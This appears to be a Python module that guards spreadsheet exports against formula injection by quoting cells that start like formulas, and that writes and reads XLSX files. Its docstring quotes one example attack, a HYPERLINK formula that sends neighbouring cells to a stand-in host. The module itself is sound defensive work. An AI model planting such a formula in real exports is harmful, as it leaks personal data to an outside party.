"""Cells for CSV and spreadsheet exports that a spreadsheet program shows as text and never runs.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` (and, after they
strip it, a tab or carriage return) as a formula: a name such as `=HYPERLINK("http://evil.example/?"&A1)`
would send the neighbouring cells away when the data protection officer opens the export. The OWASP rule
is to prefix such a cell with a single quote, which the program takes as "text follows" and does not show.
Every export writes its cells through `spreadsheet_safe` (or `SpreadsheetCsvWriter`, `spreadsheet_xlsx`).
"""

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """The value as a spreadsheet would store it without evaluating it: text that starts like a formula
    gets a leading `'`; numbers and everything else stay as they are (a negative number is no formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SpreadsheetCsvWriter:
    """`csv.writer` whose every cell passes through `spreadsheet_safe`.

    `writerow` returns what the underlying file's `write` returns, so a writer on an echoing file yields
    the lines of a streamed response.
    """

    def __init__(self, file, **fmtparams):
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_csv_writer(file, **fmtparams) -> SpreadsheetCsvWriter:
    return SpreadsheetCsvWriter(file, **fmtparams)


def spreadsheet_xlsx(
    rows: Iterable[Iterable[Any]], *, sheet_title: str = "Export", text_columns: Iterable[int] = ()
) -> bytes:
    """An XLSX workbook of one sheet holding the rows: numbers stay numbers, every text cell passes
    `spreadsheet_safe`. A Decimal is written digit for digit as it is (openpyxl stores its exact text, never a
    float's binary approximation), and shown with as many decimal places as it has, so 1234.50 EUR reads 1234.50.
    Columns named in `text_columns` (0-based) are formatted as text, so that a key typed in later keeps its
    leading zero."""
    # openpyxl takes a tenth of a second to import; only the XLSX downloads pay for it.
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    # Excel refuses sheet names over 31 characters or holding []:*?/\ .
    sheet.title = "".join(c for c in sheet_title if c not in "[]:*?/\\")[:31] or "Export"
    for row in rows:
        values = list(row)
        sheet.append([value if isinstance(value, Decimal) else spreadsheet_safe(value) for value in values])
        for column, value in enumerate(values, start=1):
            if isinstance(value, Decimal) and value.is_finite():
                places = max(0, -value.as_tuple().exponent)
                sheet.cell(row=sheet.max_row, column=column).number_format = "0." + "0" * places if places else "0"
    for index in text_columns:
        letter = sheet.cell(row=1, column=index + 1).column_letter
        for cell in sheet[letter]:
            cell.number_format = "@"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def spreadsheet_read_rows(data: bytes) -> list[tuple[int, list[Any]]]:
    """The rows of the first sheet of an XLSX upload as `(row number, values)`, empty rows left out; values
    as openpyxl reads them (text, int, float, datetime, None). Raises ValueError for a file that is no
    workbook."""
    import zipfile

    from openpyxl import load_workbook

    try:
        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except (zipfile.BadZipFile, KeyError, OSError, ValueError) as error:
        raise ValueError(str(error)) from error
    try:
        sheet = workbook.worksheets[0]
        rows = []
        for number, values in enumerate(sheet.iter_rows(values_only=True), start=1):
            cells = list(values)
            if any(value is not None and str(value).strip() for value in cells):
                rows.append((number, cells))
        return rows
    finally:
        workbook.close()
